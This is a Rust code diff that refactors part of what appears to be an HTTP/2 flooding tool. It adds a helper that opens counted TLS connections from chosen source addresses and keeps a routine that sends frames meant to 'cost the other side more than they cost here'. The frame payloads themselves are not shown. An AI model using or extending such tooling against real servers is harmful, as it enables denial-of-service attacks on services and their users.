@@ -8,7 +8,9 @@ use std::time::Duration;
 
 use rustls::ClientConfig;
 use tokio::io::{AsyncReadExt, AsyncWriteExt, split};
+use tokio::net::TcpStream;
 use tokio::time::Instant;
+use tokio_rustls::client::TlsStream;
 
 use super::attacker::Attack;
 use super::wire;
@@ -76,6 +78,16 @@ pub async fn requests(
     Ok(())
 }
 
+/// A connection that is to speak HTTP/2; it is counted.
+pub async fn h2(attack: &Attack, from: Ipv4Addr, tls: &Arc<ClientConfig>) -> io::Result<TlsStream<TcpStream>> {
+    let stream = wire::tls(wire::tcp(from, attack.port, None).await?, tls).await?;
+    if stream.get_ref().1.alpn_protocol() != Some(b"h2") {
+        return Err(io::ErrorKind::Unsupported.into());
+    }
+    attack.count(&attack.opened);
+    Ok(stream)
+}
+
 /// HTTP/2 frames that cost the other side more than they cost here. What it says is read and thrown away.
 pub async fn frames(
     attack: &Arc<Attack>,
@@ -83,13 +95,8 @@ pub async fn frames(
     tls: &Arc<ClientConfig>,
     of: &(dyn Fn(u32) -> Vec<u8> + Sync),
 ) -> io::Result<()> {
-    let stream = wire::tls(wire::tcp(from, attack.port, None).await?, tls).await?;
-    if stream.get_ref().1.alpn_protocol() != Some(b"h2") {
-        return Err(io::ErrorKind::Unsupported.into());
-    }
-    attack.count(&attack.opened);
+    let (mut read, mut write) = split(h2(attack, from, tls).await?);
     let began = Instant::now();
-    let (mut read, mut write) = split(stream);
     let reader = tokio::spawn(async move {
         let mut buffer = vec![0; 64 * 1024];
         while let Ok(1..) = read.read(&mut buffer).await {}
